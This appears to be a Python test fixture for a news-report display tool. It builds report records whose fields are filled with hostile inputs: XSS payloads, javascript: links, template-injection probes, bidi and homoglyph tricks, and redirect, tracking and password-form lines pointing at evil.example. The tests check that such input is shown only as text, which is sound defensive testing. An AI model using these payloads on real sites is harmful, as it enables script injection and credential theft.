"""Reports that try to do something to whoever reads them. Each trick has a word that must still be read as text."""

from __future__ import annotations

from tests import make
from truceline.model import Claim, Event, Evidence, Furniture, Place, Record, Speaker

SET = "window.pwned=1"
TRICKS: dict[str, str] = {
    "script": f"<script>{SET}</script>",
    "script in a quote": f"\"'><script src=data:,{SET}></script>",
    "handler": f"<img src=x onerror={SET}>",
    "svg": f"<svg onload={SET}><animate onbegin={SET} attributeName=x dur=1s>",
    "svg script": f"<svg><script>{SET}</script></svg>",
    "frame": f"<iframe srcdoc='<script>parent.{SET}</script>'></iframe>",
    "javascript link": f"<a href='javascript:{SET}'>here</a>",
    "data link": f"<a href='data:text/html,<script>{SET}</script>'>here</a>",
    "style": "<style>*{display:none}</style>",
    "style attribute": "<p style='position:fixed;inset:0;background:red'>cover</p>",
    "css import": "<link rel=stylesheet href=//evil.example/x.css>",
    "remote image": "<img src=//evil.example/pixel.png>",
    "meta refresh": "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "base": "<base href=//evil.example/>",
    "form": "<form action=//evil.example><input name=password></form>",
    "comment": "<!-- --!><script>" + SET + "</script>",
    "cdata": f"<![CDATA[<script>{SET}</script>]]>",
    "entity": f"&lt;script&gt;{SET}&lt;/script&gt;",
    "template": "{{ 7*'7' }} {% raw %} ${7*7} <%= 7*7 %>",
    "htmx": f"<div hx-get=/logout hx-trigger=load hx-on::load={SET}></div>",
    "closing tags": "</p></mark></article></main></body></html><h1>Gone</h1>",
    "attribute": f"' onmouseover='{SET}' x='\" autofocus onfocus=\"{SET}",
    "bidi override": "\u202egnp.exe\u202c and \u202dleft\u202c",
    "bidi isolate left open": "\u2067\u2066\u2068 never closed",
    "zero width": "ki\u200blled\ufeff \u2060five",
    "homoglyph": "Іѕlаmіс Stаtе",
    "null and controls": "a\x01b\x1bc\x7fd",
    "combining": "a" + "\u0301" * 500 + "z",
    "lone surrogate": "\ufffdx",
    "right to left": "قُتل خمسة أشخاص في الفاشر",
    "emoji": "👩‍👩‍👧‍👦🏳️‍🌈 killed 3 🇸🇩",
}


def record(name: str, trick: str) -> Record:
    """A report that has a trick in every field that a page shows."""
    before, after = "Police said that ", " was seen on Monday in Khartoum. "
    text = f"{before}{trick}{after}\n\n{trick}\n\nEnd of {name}."
    evidence = Evidence(start=len(before), end=len(before) + len(trick), quote=trick)
    furniture = Furniture(start=len(before) + len(trick) + len(after) + 2, end=0, text=trick, reason=trick)
    furniture = furniture.model_copy(update={"end": furniture.start + len(trick)})
    told = make.event("bombing", trick, date="2020-01-06")
    place = Place(id=None, name=trick, country="SDN", lat=15.5, lon=32.5, precision="exact", text=trick)
    event = Event(
        **{
            **told.model_dump(),
            "id": "e1",
            "claims": ("c1",),
            "actors": make.who(f"named:{name}"),
            "targets": tuple(one.model_copy(update={"name": trick, "text": trick}) for one in make.who("named:x")),
            "place": place,
            "evidence": (evidence,),
            "counts": (make.killed_count(5, who_=trick),),
            "speakers": (Speaker(label=trick, kind="named_person"),),
        }
    )
    claim = Claim(
        id="c1", event="e1", speakers=(Speaker(label=trick, kind="named_person"),), modality="actual", horizon="new",
        evidence=(evidence,), rule="hand", confidence=1.0,
    )  # fmt: skip
    made = make.record(name, told, publisher=f"P {trick}", text=text)
    report = made.report.model_copy(
        update={
            "title": f"T {trick}", "section": trick, "byline": trick, "dateline": trick, "url": f"javascript:{trick}",
            "furniture": (furniture,),
        }
    )  # fmt: skip
    return Record(report=report, claims=(claim,), events=(event,))
